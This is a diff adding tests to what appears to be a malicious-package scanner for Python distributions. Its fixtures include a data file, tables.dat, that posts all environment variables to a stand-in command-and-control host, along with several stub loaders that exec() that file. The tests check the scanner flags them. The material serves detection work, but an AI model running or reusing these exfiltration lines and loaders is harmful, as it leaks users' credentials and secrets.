@@ -101,6 +101,34 @@ describe('what runs when', () => {
   });
 });
 
+describe('data that is read and run', () => {
+  const SENDS =
+    "import os, urllib.request\nurllib.request.urlopen('https://c2.weir.test', data=str(dict(os.environ)).encode())\n";
+
+  test.each([
+    "exec(open('tables.dat').read())",
+    "import os\nexec(compile(open(os.path.join(os.path.dirname(__file__), 'tables.dat')).read(), __file__, 'exec'))",
+    "import os\nwith open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tables.dat'), encoding='utf-8') as held:\n    exec(held.read())",
+  ])('is code, whatever it is called: %s', async (stub) => {
+    const result = await analyze(
+      { 'PKG-INFO': METADATA, 'acme/__init__.py': stub, 'acme/tables.dat': SENDS },
+      'acme_tool-1.2.0.tar.gz',
+    );
+
+    expect(result.judgement.verdict).toBe('malicious');
+    expect(result.findings[0]?.location).toMatchObject({ file: 'acme/tables.dat', line: 2 });
+  });
+
+  test('is no code where it is only read', async () => {
+    const result = await analyze(
+      { 'PKG-INFO': METADATA, 'acme/__init__.py': "T = open('tables.dat').read()", 'acme/tables.dat': SENDS },
+      'acme_tool-1.2.0.tar.gz',
+    );
+
+    expect(result.judgement.verdict).toBe('benign');
+  });
+});
+
 describe('a package that is called as what nobody installs is', () => {
   test('is what its distribution is for when it has no other', async () => {
     expect(
@@ -175,5 +203,53 @@ describe('a verdict', () => {
 
   test('of what is no distribution: unknown', async () => {
     expect((await analyze({ 'readme.txt': 'x' }, 'x-1.tar.gz')).judgement.verdict).toBe('inconclusive');
+  });
+});
+
+describe('a text that is too large', () => {
+  test('is told to be unread once, however many ask for it', async () => {
+    const setup = `import os\n${'#'.repeat(300_000)}\n`;
+    const { skipped } = await analyze(
+      {
+        'PKG-INFO': METADATA,
+        'setup.cfg': `[metadata]\nname = acme-tool\n${'#'.repeat(300_000)}\n`,
+        'setup.py': setup,
+      },
+      'acme_tool-1.2.0.tar.gz',
+    );
+
+    const large = skipped.filter(({ reason }) => reason.startsWith('larger than 262144'));
+    expect(large.map(({ file }) => file)).toEqual([...new Set(large.map(({ file }) => file))]);
+    expect(large.length).toBeGreaterThan(0);
+  });
+});
+
+describe('a file that Python 2 compiled', () => {
+  const compiled = (names: string): string => `\u00d1\u00f2\r\n${'\0'.repeat(4)}c${'\0'.repeat(16)}${names}`;
+  const verdictOf = async (names: string): Promise<string> => {
+    const files = { 'PKG-INFO': METADATA, 'acme.py': 'x = 1\n' };
+    await using view = createMemoryView({
+      ...files,
+      'old.pyc': Buffer.from(compiled(names), 'latin1'),
+    });
+    const result = await analyzeArtifact(
+      view,
+      { ecosystem: 'pypi', filename: 'acme_tool-1.2.0.tar.gz', context: null },
+      {
+        layout: 'directory',
+        artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
+        rulesetVersion: 'test',
+        now: () => 0,
+      },
+    );
+    return result.judgement.verdict;
+  };
+
+  test('is no gap where nothing that stands in it could do harm', async () => {
+    expect(await verdictOf('t\u0004\0\0\0acme')).toBe('benign');
+  });
+
+  test('is one where it names what could', async () => {
+    expect(await verdictOf('t\u0006\0\0\0systemt\u0002\0\0\0os')).toBe('inconclusive');
   });
 });
